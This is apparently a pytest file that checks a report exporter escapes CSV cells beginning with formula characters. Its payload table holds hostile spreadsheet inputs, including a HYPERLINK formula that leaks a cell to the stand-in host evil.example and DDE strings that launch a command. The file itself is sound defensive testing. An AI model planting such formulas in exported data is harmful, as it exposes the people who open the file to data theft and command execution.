"""CSV formula injection: every cell starting with = + - @ tab or CR is neutralised, in every CSV written."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlmodel import Session, col, select

from models.tables import Insight
from synthesis.report.csv_export import export_csv
from synthesis.report.csv_safe import FORMULA_STARTS, safe_cell, unsafe_cell, write_rows
from synthesis.report.redaction import Candidate
from synthesis.report.review_file import write_review
from synthesis.report.terms import Term
from tests.report_sample import build_sample_workspace

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+": "+1+1",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.mark.parametrize("prefix", FORMULA_STARTS)
def test_each_dangerous_prefix_is_quoted(prefix: str) -> None:
    payload = PAYLOADS[prefix]
    assert safe_cell(payload) == "'" + payload
    assert unsafe_cell(str(safe_cell(payload))) == payload


def test_harmless_cells_are_unchanged() -> None:
    for value in ("Pipeline is late", "'quoted", "", 3, 0.5, None, "a=b", "x-1"):
        assert safe_cell(value) == value


def test_write_rows_neutralises_headers_and_cells() -> None:
    handle = io.StringIO()
    assert write_rows(handle, ["=h"], [[PAYLOADS["="]], ["ok"]]) == 2
    rows = list(csv.reader(io.StringIO(handle.getvalue())))
    assert rows == [["'=h"], ["'" + PAYLOADS["="]], ["ok"]]


def test_insights_csv_neutralises_transcript_formulas(tmp_path: Path) -> None:
    engine = build_sample_workspace(tmp_path / "s.groundwork")
    with Session(engine) as session:
        insights = session.exec(select(Insight).order_by(col(Insight.id)).limit(len(PAYLOADS))).all()
        for insight, payload in zip(insights, PAYLOADS.values(), strict=True):
            insight.statement = payload
            session.add(insight)
        session.commit()
    summary = export_csv(engine, tmp_path / "out")
    with summary.insights.open(encoding="utf-8-sig", newline="") as handle:
        statements = [row["statement"] for row in csv.DictReader(handle)]
    for payload in PAYLOADS.values():
        assert "'" + payload in statements
    for cell in statements:
        assert not cell.startswith(FORMULA_STARTS), cell


def test_review_file_neutralises_examples(tmp_path: Path) -> None:
    write_review(tmp_path / "terms.csv", [Candidate(Term("Okafor", "name"), 1, "=HYPERLINK(Okafor)")])
    text = (tmp_path / "terms.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(Okafor)" in text
